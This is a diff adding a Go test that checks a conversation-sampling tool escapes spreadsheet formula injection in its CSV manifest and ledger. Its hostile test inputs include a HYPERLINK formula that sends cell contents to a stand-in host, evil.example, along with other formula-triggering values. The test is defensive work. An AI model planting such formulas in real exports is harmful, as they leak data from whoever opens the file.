@@ -16,6 +16,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/parley-cx/parley/internal/csvsafe"
 )
 
 // runSample runs Sample with the fixture clock and returns its result and
@@ -576,5 +578,89 @@ func TestSampleMissingWarehouse(t *testing.T) {
 	_, err := Sample(context.Background(), Config{DB: filepath.Join(t.TempDir(), "none.duckdb"), Out: t.TempDir()})
 	if err == nil || !strings.Contains(err.Error(), "parley build") {
 		t.Errorf("Sample on a missing warehouse: %v, want a hint to run parley build", err)
+	}
+}
+
+// TestLedgerAndManifestAreSpreadsheetSafe: ids a spreadsheet would run as
+// formulas are neutralised in manifest.csv and ledger.csv, and the ledger
+// reads back unchanged: a later run still skips exactly those conversations.
+func TestLedgerAndManifestAreSpreadsheetSafe(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "-5", "+1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'quoted", "plain"}
+	var convs []fconv
+	for _, id := range hostile {
+		convs = append(convs, fconv{id: id, agent: "=agent", day: 10, complete: true})
+	}
+	for i := range 3 {
+		convs = append(convs, fconv{id: fmt.Sprintf("later-%d", i), agent: "=agent", day: 10, complete: true})
+	}
+	db := newWarehouse(t, convs)
+	out := t.TempDir()
+	cfg := Config{DB: db, Out: out, Size: len(convs), Seed: 1, RandomShare: 1}
+	cfg.Now = fixtureNow
+	res, first := runSample(t, cfg)
+	if len(first) != len(convs) {
+		t.Fatalf("sampled %d, want all %d", len(first), len(convs))
+	}
+
+	f, err := os.Open(filepath.Join(res.Dir, "manifest.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	manifest, err := csv.NewReader(f).ReadAll()
+	f.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ledger := readLedgerRows(t, filepath.Join(out, DefaultLedgerName))
+	inFile := map[string]bool{}
+	for _, row := range manifest[1:] {
+		inFile[row[1]] = true
+		if row[2] != "'=agent" {
+			t.Errorf("manifest agent_id %q, want '=agent", row[2])
+		}
+	}
+	for _, row := range ledger {
+		if !inFile[row[2]] {
+			t.Errorf("ledger conversation_id %q is not as in the manifest", row[2])
+		}
+	}
+	for _, id := range hostile {
+		if want := csvsafe.Escape(id); !inFile[want] {
+			t.Errorf("manifest.csv lacks %q (the neutralised %q)", want, id)
+		}
+	}
+	for cell := range inFile {
+		if c := cell[0]; strings.ContainsRune("=+-@\t\r", rune(c)) {
+			t.Errorf("manifest.csv cell %q starts with %q", cell, c)
+		}
+	}
+
+	// The next day's run reads the ledger back: every id must match the
+	// warehouse's, or the run would sample the same conversations again.
+	add := []fconv{{id: "new-1", agent: "=agent", day: 10, complete: true}}
+	db = newWarehouse(t, append(convs, add...))
+	cfg.DB, cfg.Now = db, fixtureNow.AddDate(0, 0, 1)
+	res, second := runSample(t, cfg)
+	if got := ids(second); !slices.Equal(got, []string{"new-1"}) {
+		t.Errorf("the next run sampled %q, want only the new conversation", got)
+	}
+	if res.Skipped != len(convs) {
+		t.Errorf("Skipped = %d, want %d", res.Skipped, len(convs))
+	}
+	l, err := readLedger(filepath.Join(out, DefaultLedgerName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	read := map[string]bool{}
+	for _, row := range l.rows {
+		read[row[2]] = true
+		if row[3] != "=agent" {
+			t.Errorf("ledger agent read back as %q", row[3])
+		}
+	}
+	for _, id := range hostile {
+		if !read[id] {
+			t.Errorf("ledger did not read %q back", id)
+		}
 	}
 }
